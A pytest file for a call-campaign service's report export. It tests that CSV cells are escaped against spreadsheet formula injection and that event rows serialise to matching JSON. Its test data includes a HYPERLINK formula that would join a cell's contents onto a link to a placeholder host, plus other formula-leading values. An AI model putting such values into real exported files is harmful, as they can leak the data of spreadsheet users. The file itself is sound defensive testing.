"""Rows as they are written: CSV for spreadsheets too."""

import json

import pytest
from tests.core.codec.example import STORIES

from campaign_core import CallId, Instant, Outcome
from campaign_core.events import CallEnded, CallEvent
from campaign_service.instants import TimeWriter, zone_of
from campaign_service.report.rows import csv_row, event_rows, event_texts


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://x/"&C2)', '\'=HYPERLINK("http://x/"&C2)'),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@sum(1)", "'@sum(1)"),
        ("Ada = Countess", "Ada = Countess"),
        (True, "true"),
        (-1, -1),
        (None, None),
    ],
)
def test_name_is_no_formula_in_a_spreadsheet(cell, written):
    """R9.2: a log is exported to be read; what a name says is never done."""
    assert csv_row({"name": cell}) == {"name": written}


def test_telephone_number_stays_as_it_is():
    """R9.2: +39050... is a number, and can do nothing."""
    assert csv_row({"number": "+390501234567"}) == {"number": "+390501234567"}


def test_event_as_text_is_the_json_of_its_row():
    """R8.3: a report tells of an event what every other list of a call's events tells."""
    events = [
        event
        for story in STORIES.values()
        for event in story().events
        if isinstance(event, CallEvent)
    ]
    assert set(CallEvent.__subclasses__()) == set(map(type, events))
    text = TimeWriter(zone_of("Europe/Rome"))
    rows = json.dumps(event_rows(events, text), ensure_ascii=False)
    assert rows == event_texts(events, text)


def test_awkward_text_of_an_event_is_the_json_of_its_row():
    told = CallEnded(
        seq=1,
        at=Instant(0),
        actor="driver",
        call_id=CallId("0" * 32),
        outcome=Outcome.FAILED,
        hangup_cause=None,
        detail='"no\\route"\x00\n\u2028 zu Österreich 😀 %s {',
    )
    text = TimeWriter(zone_of("UTC"))
    assert json.dumps(event_rows([told], text), ensure_ascii=False) == event_texts([told], text)
